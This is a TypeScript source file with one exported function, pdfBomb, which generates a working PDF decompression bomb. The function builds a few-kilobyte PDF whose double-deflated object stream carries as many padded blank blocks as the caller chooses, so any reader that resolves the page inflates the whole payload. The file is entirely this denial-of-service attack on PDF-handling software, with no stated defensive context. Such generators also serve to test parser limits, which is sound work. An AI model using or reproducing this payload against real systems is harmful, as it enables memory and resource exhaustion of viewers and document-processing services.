import { deflateSync, deflateRawSync, constants } from 'node:zlib';

const blockBytes = 1 << 20;

/**
 * A PDF of a few kilobytes whose page tree is followed by blanks, deflated twice: whoever looks up a page
 * inflates all of them.
 */
export function pdfBomb(inflatedBytes: number): Buffer {
  const objects = ['<< /Type /Catalog /Pages 3 0 R >>', '<< /Type /Pages /Count 1 /Kids [5 0 R] >>'];
  const table = `2 0 3 ${objects[0]?.length} `;
  const blanks = deflateRawSync(Buffer.alloc(blockBytes, ' '), { finishFlush: constants.Z_FULL_FLUSH });
  const once = Buffer.concat([
    Buffer.from('789c', 'hex'),
    deflateRawSync(Buffer.from(table + objects.join('')), { finishFlush: constants.Z_FULL_FLUSH }),
    ...Array.from({ length: Math.ceil(inflatedBytes / blockBytes) }, () => blanks),
    deflateRawSync(Buffer.alloc(0)),
    Buffer.alloc(4),
  ]);
  const packed = deflateSync(once, { level: 9 });

  let file = Buffer.from('%PDF-1.5\n');
  const offsets: number[] = [];
  const write = (number: number, dictionary: string, content: Buffer | null) => {
    offsets[number] = file.length;
    const stream = content ? [Buffer.from('\nstream\n'), content, Buffer.from('\nendstream')] : [];
    const parts = [Buffer.from(`${number} 0 obj\n${dictionary}`), ...stream, Buffer.from('\nendobj\n')];
    file = Buffer.concat([file, ...parts]);
  };
  const filter = '/Filter [/FlateDecode /FlateDecode]';
  write(1, `<< /Type /ObjStm /N 2 /First ${table.length} ${filter} /Length ${packed.length} >>`, packed);
  write(5, '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>', null);
  const at = file.length;
  const entry = (type: number, offset: number, index: number) => {
    const bytes = Buffer.alloc(6);
    bytes.writeUInt8(type, 0);
    bytes.writeUInt32BE(offset, 1);
    bytes.writeUInt8(index, 5);
    return bytes;
  };
  const entries = Buffer.concat([
    entry(0, 0, 255),
    entry(1, offsets[1] ?? 0, 0),
    entry(2, 1, 0),
    entry(2, 1, 1),
    entry(1, at, 0),
    entry(1, offsets[5] ?? 0, 0),
  ]);
  write(4, `<< /Type /XRef /Size 6 /W [1 4 1] /Root 2 0 R /Length ${entries.length} >>`, entries);
  return Buffer.concat([file, Buffer.from(`startxref\n${at}\n%%EOF\n`)]);
}
